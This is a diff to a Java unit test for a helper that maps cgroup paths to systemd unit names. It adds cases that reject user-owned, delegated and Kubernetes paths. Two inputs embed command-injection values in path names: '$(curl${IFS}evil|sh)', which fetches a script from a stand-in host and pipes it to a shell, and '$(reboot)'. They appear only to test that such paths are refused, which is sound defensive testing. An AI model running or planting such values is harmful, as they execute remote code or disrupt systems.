@@ -45,8 +45,16 @@ class HelpersTest {
     @Test
     void unitsOnlyFromSystemdNamedCgroups() {
         assertEquals("db.service", Cgroups.unit("/system.slice/db.service"));
-        assertEquals("session-3.scope", Cgroups.unit("/user.slice/user-1000.slice/session-3.scope"));
-        assertEquals("user.slice", Cgroups.unit("/user.slice"));
+        assertEquals("web.service", Cgroups.unit("/system.slice/app.slice/web.service"));
+        assertEquals("system-getty\\x2dstatic.slice", Cgroups.unit("/system.slice/system-getty\\x2dstatic.slice"));
+        // Anyone may name a cgroup: only the layout systemd makes for the system manager names a unit.
+        assertNull(Cgroups.unit("/user.slice/user-1000.slice/session-3.scope"));
+        assertNull(Cgroups.unit("/user.slice"));
+        assertNull(Cgroups.unit("/user.slice/user-1000.slice/user@1000.service/x/postgresql.service"));
+        assertNull(Cgroups.unit("/user.slice/user-1000.slice/user@1000.service/$(curl${IFS}evil|sh)/postgresql.service"));
+        assertNull(Cgroups.unit("/system.slice/app.service/postgresql.service"), "a delegated service's own sub-group");
+        assertNull(Cgroups.unit("/system.slice/$(reboot).slice/postgresql.service"));
+        assertNull(Cgroups.unit("/kubepods.slice/postgresql.service"));
         assertNull(Cgroups.unit("/kubepods/burstable/pod1234/abcdef"));
         assertNull(Cgroups.unit("/triagebot-lab/oom"));
         assertNull(Cgroups.unit("/system.slice/db.service/worker"));
